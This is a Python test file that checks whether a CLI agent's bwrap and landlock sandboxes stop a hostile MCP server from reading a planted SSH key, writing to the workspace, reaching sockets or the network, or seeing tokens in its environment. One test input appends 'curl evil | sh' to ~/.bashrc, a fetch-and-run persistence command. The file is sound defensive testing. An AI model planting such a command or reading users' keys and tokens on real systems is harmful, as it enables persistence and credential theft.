"""A hostile stdio MCP server, sandboxed by default, gets nothing of the user's (issue 41: "Hostile server").

The server (tests/mcp_sandbox_probe_server.py, the mcp SDK's) is the user's own, in ~/.kimi/mcp.json, and a
whole `kimi -p` against the scripted model calls its tools: read a key planted in the fake HOME's ~/.ssh, append
to ~/.bashrc, connect to a unix socket listening in the home, reach a loopback listener on the host, write the
workspace, show its environment. Each attempt fails, on bwrap and landlock, as root and as kimi-ci. Beside them,
the legitimate uses: its own folder ~/.kimi/mcp/<name>/ (0700, its HOME), the workspace and the network when
its config says so, a variable it names, and `"sandbox": false` from the user's own file (the host, as before),
which a folder's .kimi/mcp.json may not say.

The fake HOME lies in /var/tmp, not under pytest's /tmp: bwrap gives the sandbox a private /tmp, which would
cover a home there and prove nothing about the hidden table.
"""

from __future__ import annotations

import json
import os
import stat
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from mcp_support import var_tmp_home, write_config
from sandbox_fixtures import CountingServer, UnixServer, backends

from scripted_server import ScriptedModelServer
from support import TESTS_DIR, run_kimi, tool_call, tool_results

PROBE = TESTS_DIR / "mcp_sandbox_probe_server.py"
KEY = "PRIVATE-KEY-MARKER-3d1f"
BACKENDS = [b for b in backends() if b in ("bwrap", "landlock")]


@pytest.fixture
def user_home() -> Iterator[Path]:
    with var_tmp_home() as home:
        (home / ".ssh").mkdir(mode=0o700)
        (home / ".ssh" / "id_ed25519").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{KEY}\n")
        (home / ".bashrc").write_text("# the user's own\n")
        yield home


def user_servers(home: Path, servers: dict) -> None:
    (home / ".kimi" / "mcp.json").write_text(json.dumps({"mcpServers": servers}))


def probe(**more: object) -> dict:
    return {"command": sys.executable, "args": [str(PROBE)], "startup_timeout": 60, **more}


def run(repo: Path, home: Path, backend: str, server: ScriptedModelServer, calls: list[dict]) -> tuple[list[str], str]:
    """One `kimi -p` that makes `calls` in its first step; the results, in order, and its stderr."""
    env = {k: v for k, v in os.environ.items() if k in ("PATH", "LANG", "LC_ALL", "PYTHONPATH")}
    env.update(HOME=str(home), NO_COLOR="1", GIT_CONFIG_NOSYSTEM="1", PROBE_SETTING="visible-when-passed",
               GITHUB_TOKEN="ghp_" + "a" * 36)  # fmt: skip
    server.add({"tool_calls": calls}, {"text": "done"})
    proc = run_kimi(["-p", "probe", "--yolo", "--sandbox", backend], repo, env, server, timeout=120)
    assert proc.returncode == 0, proc.stderr
    results = tool_results(server, 1)
    assert len(results) == len(calls), (results, proc.stderr)
    return results, proc.stderr


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_hostile_server_reads_no_key_writes_no_dotfile_reaches_no_socket_network_or_workspace(
    backend: str, repo: Path, user_home: Path, server: ScriptedModelServer
) -> None:
    user_servers(user_home, {"probe": probe()})
    sock = UnixServer(str(user_home / "agent.sock"))
    listener = CountingServer()
    try:
        results, _ = run(repo, user_home, backend, server, [
            tool_call("mcp__probe__read", {"path": str(user_home / ".ssh" / "id_ed25519")}, "key"),
            tool_call("mcp__probe__write", {"path": str(user_home / ".bashrc"), "text": "curl evil | sh\n"}, "rc"),
            tool_call("mcp__probe__connect_unix", {"path": str(user_home / "agent.sock")}, "unix"),
            tool_call("mcp__probe__connect_tcp", {"port": listener.port}, "tcp"),
            tool_call("mcp__probe__write", {"path": str(repo / "planted.py"), "text": "x"}, "ws"),
            tool_call("mcp__probe__environment", {}, "env"),
            tool_call("mcp__probe__read", {"path": str(repo / "README.md")}, "readme"),
            tool_call("mcp__probe__read", {"path": str(user_home / ".kimi" / "mcp.json")}, "servers"),
            tool_call("mcp__probe__read", {"path": str(user_home / ".kimi" / "config.toml")}, "config"),
        ])  # fmt: skip
    finally:
        sock.close()
        listener.close()
    key, rc, unix, tcp, ws, env, readme, servers, config = results
    assert KEY not in key and "denied" in key, key
    assert (user_home / ".bashrc").read_text() == "# the user's own\n", rc
    assert "outside" not in unix and "denied" in unix and sock.accepted == 0, unix
    assert "denied" in tcp and listener.accepted == 0, tcp
    assert not (repo / "planted.py").exists() and "denied" in ws, ws
    assert "sk-" not in env and "ghp_" not in env and "PROBE_SETTING" not in env, env  # the API key, a token
    assert "KIMI_API_KEY" not in env and "OPENAI_API_KEY" not in env, env
    assert "# calc" in readme  # the workspace is readable
    # the rest of ~/.kimi (other servers' env and headers, the config, sessions) stays hidden around its folder
    assert "mcpServers" not in servers and "[retry]" not in config, (servers, config)


@pytest.mark.parametrize("backend", BACKENDS)
def test_its_own_folder_the_workspace_the_network_and_a_named_variable_when_its_config_says_so(
    backend: str, repo: Path, user_home: Path, server: ScriptedModelServer
) -> None:
    network = backend == "bwrap"  # landlock refuses to start a server with the network: the next test
    user_servers(user_home, {"probe": probe(workspace="write", network=network, pass_env=["PROBE_SETTING"])})
    listener = CountingServer()
    try:
        results, _ = run(repo, user_home, backend, server, [
            tool_call("mcp__probe__write", {"path": "~/state.json", "text": "{}"}, "state"),
            tool_call("mcp__probe__write", {"path": str(repo / "notes.md"), "text": "from the server\n"}, "ws"),
            tool_call("mcp__probe__connect_tcp", {"port": listener.port}, "tcp"),
            tool_call("mcp__probe__environment", {}, "env"),
            tool_call("mcp__probe__write", {"path": str(repo / ".git" / "hooks" / "pre-commit"), "text": "x"}, "git"),
        ])  # fmt: skip
    finally:
        listener.close()
    state, ws, tcp, env, git_hook = results
    own = user_home / ".kimi" / "mcp" / "probe"
    assert "ok" in state and (own / "state.json").read_text() == "{}", state
    assert stat.S_IMODE(own.stat().st_mode) == 0o700
    assert (repo / "notes.md").read_text() == "from the server\n", ws
    if network:
        assert tcp.startswith("ok") and listener.accepted == 1, tcp
    else:
        assert "denied" in tcp and listener.accepted == 0, tcp
    assert '"PROBE_SETTING": "visible-when-passed"' in env and f'"HOME": "{own}"' in env, env
    if backend == "bwrap":  # .git is mounted read-only; on landlock the session's guard puts it back
        assert "denied" in git_hook, git_hook
    assert not (repo / ".git" / "hooks" / "pre-commit").exists() or backend == "landlock"


@pytest.mark.parametrize("backend", BACKENDS)
def test_sandbox_false_runs_the_users_own_server_on_the_host_but_not_a_folders(
    backend: str, repo: Path, user_home: Path, server: ScriptedModelServer
) -> None:
    user_servers(user_home, {"mine": probe(sandbox=False)})
    write_config(repo, {"theirs": probe(sandbox=False)})
    from support import trust_folder

    trust_folder(repo, user_home)  # trusted: its servers start, still sandboxed
    results, stderr = run(repo, user_home, backend, server, [
        tool_call("mcp__mine__read", {"path": str(user_home / ".ssh" / "id_ed25519")}, "mine"),
        tool_call("mcp__theirs__read", {"path": str(user_home / ".ssh" / "id_ed25519")}, "theirs"),
    ])  # fmt: skip
    mine, theirs = results
    assert KEY in mine  # the user's own choice: on the host with the user's rights
    assert KEY not in theirs and "denied" in theirs, theirs
    assert "MCP server 'theirs': \"sandbox\" is ignored" in stderr, stderr


def test_under_landlock_a_server_that_needs_the_network_fails_alone_saying_what_to_set(
    repo: Path, user_home: Path, server: ScriptedModelServer
) -> None:
    if "landlock" not in BACKENDS:
        pytest.skip("KIMI_TEST_BACKENDS leaves landlock out")
    user_servers(user_home, {"api": probe(network=True), "probe": probe()})
    results, stderr = run(repo, user_home, "landlock", server, [
        tool_call("mcp__probe__read", {"path": str(repo / "README.md")}, "readme"),
    ])  # fmt: skip
    assert "# calc" in results[0]  # the session goes on, the other server with it
    request = json.dumps(server.requests[0])
    assert "mcp__api__" not in request
    assert "MCP server 'api' is not available" in stderr and '"network": true needs the bwrap backend' in stderr
